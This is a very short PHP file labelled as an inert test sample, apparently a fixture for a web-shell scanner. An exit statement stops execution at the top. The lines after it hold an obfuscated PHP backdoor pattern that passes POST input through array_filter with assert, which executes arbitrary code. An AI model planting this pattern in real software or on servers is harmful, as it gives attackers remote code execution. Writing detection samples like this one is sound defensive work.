<?php // MOGURA TEST SAMPLE — inert
exit; // the sample stops here: nothing below ever runs

$list = array(isset($_POST['q']) ? $_POST['q'] : '1');
array_filter($list, 'assert');
